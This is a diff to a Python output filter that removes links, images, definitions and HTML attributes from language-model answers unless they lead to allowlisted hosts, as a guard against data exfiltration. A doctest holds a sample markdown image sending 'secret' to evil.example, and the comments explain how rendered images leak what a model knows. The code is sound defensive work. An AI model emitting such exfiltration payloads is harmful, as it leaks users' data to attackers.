@@ -1,9 +1,9 @@
-"""What may an answer make the reader's program fetch or open?
+"""Output filter against data exfiltration through links, images and HTML.
 
-A model's answer, in markdown or HTML, goes in; out comes the answer in which every link, image and
-definition leads to an allowed host, and no HTML tag with attributes is left. What is not allowed
-is removed or, where it cannot be told where it ends, broken so that it is shown and not followed.
-Code is not spared: where code begins depends on the renderer, and so could be forged.
+answer in markdown or HTML → answer whose links, images and definitions lead to allowed hosts, and
+whose HTML tags have no attributes. Anything else is removed or, where its end is ambiguous, escaped
+so that it is shown and not followed. Code is filtered too: where code begins depends on the
+renderer, so an attacker could fake it.
 
 Source: CommonMark 0.31.2, sections 4.7 (definitions), 6.3 to 6.6 (links, images, autolinks, HTML);
 GitHub Flavored Markdown, section 6.9 (extended autolinks); Rehberger, "Embrace the Red" (2023, data
@@ -24,7 +24,7 @@ from mlsecops.llm.text.unicode import sanitise
 
 __all__ = ["Filtered", "OutputFilter"]
 
-_PASSES: Final = 12
+_PASSES: Final = 12  # passes; chosen: nested constructs take 2 or 3, more are refused as a whole
 _REMOVED: Final = "\u2039{} removed\u203a"
 _DESTINATION: Final = r"(?P<{0}>[^\s<>()\[\]\\\"'`|{{}}]+)"
 _TITLE: Final = r"(?:[ ]+\"[^\"<>\[\]\\&\n`]*\")?"
@@ -61,7 +61,7 @@ _CONSTRUCTS: Final = (
 )  # fmt: skip
 _TRAILING: Final = ")].,;:!?'\"*_~>}\u203a"
 _WRITTEN: Final = re.compile(f"{_URL}|{_DOMAIN}")
-# Elements that fetch, run or style by themselves, or change how what follows is read.
+# Elements that fetch, run or style by themselves, or change how the rest is parsed.
 _ACTIVE: Final = frozenset(
     {
         "applet", "audio", "base", "body", "button", "embed", "form", "frame", "frameset",
@@ -76,12 +76,12 @@ _SIGNIFICANT: Final = frozenset(":/.@\\[]()!#?`%-_\u3002\uff0e\uff61\t\n\r")
 
 @dataclass(frozen=True, slots=True, kw_only=True)
 class Filtered:
-    """An answer that leads nowhere it may not.
+    """An answer that leads to allowed hosts only.
 
     Attributes:
-        text: What may be shown.
-        removed: Kind (`link`, `image`, `definition`, `html`, `entity`, `hidden`) → how
-            many were removed or broken.
+        text: The answer to show.
+        removed: Kind (`link`, `image`, `definition`, `html`, `entity`, `hidden`) → number removed
+            or escaped; `answer` if the whole answer was removed.
     """
 
     text: str
@@ -89,23 +89,26 @@ class Filtered:
 
     @property
     def changed(self) -> bool:
-        """Whether anything was removed or broken."""
+        """Whether anything was removed or escaped."""
         return bool(self.removed)
 
 
 class OutputFilter:
-    """Removes from answers what leads to hosts that are not allowed.
+    """Removes everything from answers that leads to a host not on the allowlist.
 
-    It takes whole answers: a stream must be held back until its end, for a link can begin in one
-    piece and end in another.
+    It takes whole answers: hold a stream back until its end, since a link can span two parts.
 
     Args:
         links: Hosts that links may lead to.
-        images: Hosts that images may be fetched from; a picture is fetched without a click, and
-            its address can carry what the model knows.
+        images: Hosts that images may come from. An image is fetched without a click, and its URL
+            can carry what the model knows.
 
     Raises:
-        UsageError: An entry is no host.
+        UsageError: An entry is not a host.
+
+    Example:
+        >>> OutputFilter(links=["*.example.com"]).clean("[a](https://docs.example.com/)").text
+        '[a](https://docs.example.com/)'
     """
 
     def __init__(self, *, links: Iterable[str] = (), images: Iterable[str] = ()) -> None:
@@ -113,16 +116,17 @@ class OutputFilter:
         self._images = Hosts.of(images)
 
     def clean(self, text: str) -> Filtered:
-        """Remove or break what may not be followed.
+        """Remove or escape whatever leads elsewhere.
 
         Args:
-            text: A whole answer, in markdown, HTML or plain.
+            text: A whole answer, in markdown, HTML or plain text.
 
         Raises:
-            UsageError: It is no text.
+            UsageError: `text` is not a str.
 
-        >>> OutputFilter().clean("See ![x](https://evil.example/?q=secret)").text
-        'See \u2039image removed\u203a'
+        Example:
+            >>> dict(OutputFilter().clean("See ![x](https://evil.example/?q=secret)").removed)
+            {'image': 1}
         """
         seen = sanitise(text)
         removed: Counter[str] = Counter()
@@ -130,19 +134,19 @@ class OutputFilter:
             removed["hidden"] = sum(seen.removed.values())
         shown = seen.text.replace("\r\n", "\n").replace("\r", "\n")
         for _ in range(_PASSES):
-            after = sanitise(_MARKED.sub(lambda found: self._judged(found, removed), shown)).text
+            after = sanitise(_MARKED.sub(lambda found: self._replaced(found, removed), shown)).text
             if after == shown:
                 return Filtered(text=shown, removed=dict(removed))
             shown = after
-        # It changes whenever it is looked at, so nobody can say what it leads to.
+        # It changes in every pass, so that its final form is unknown.
         return Filtered(text=_REMOVED.format("answer"), removed={**removed, "answer": 1})
 
-    def _judged(self, found: re.Match[str], removed: Counter[str]) -> str:
-        kind = next(name for name in _CONSTRUCTS if found[name] is not None)
-        told, what = getattr(self, f"_{kind}")(found)
-        if told != found[0]:
-            removed[what] += 1
-        return str(told)
+    def _replaced(self, found: re.Match[str], removed: Counter[str]) -> str:
+        construct = next(name for name in _CONSTRUCTS if found[name] is not None)
+        text, kind = getattr(self, f"_{construct}")(found)
+        if text != found[0]:
+            removed[kind] += 1
+        return str(text)
 
     def _image(self, found: re.Match[str]) -> tuple[str, str]:
         allowed = self._images.allow(found["source"]) and not _WRITTEN.search(found["alt"])
@@ -159,7 +163,7 @@ class OutputFilter:
 
     def _definition(self, found: re.Match[str]) -> tuple[str, str]:
         target = found["defined"]
-        # It can be used for links and for images.
+        # A definition can serve links and images.
         if target and self._links.allow(target) and self._images.allow(target):
             return found[0], "definition"
         head, _, rest = found[0].rpartition("]:")
@@ -169,7 +173,7 @@ class OutputFilter:
         address = found["address"]
         if not self._links.allow(address):
             return _REMOVED.format("link"), "link"
-        # Read as HTML it is an element, and what stands before = an attribute of it.
+        # Parsed as HTML it is an element, and the part in front of = an attribute.
         return (address if "=" in address else found[0]), "html"
 
     def _bare(self, found: re.Match[str]) -> tuple[str, str]:
@@ -191,7 +195,7 @@ class OutputFilter:
         return self._written(found[0], f"https://{found[0]}")
 
     def _written(self, text: str, url: str) -> tuple[str, str]:
-        """A URL in running text, which programs make a link of."""
+        """A URL in running text, which renderers turn into a link."""
         core = text.rstrip(_TRAILING)
         address = url[: len(url) - len(text) + len(core)]
         if address.lower().startswith("www."):
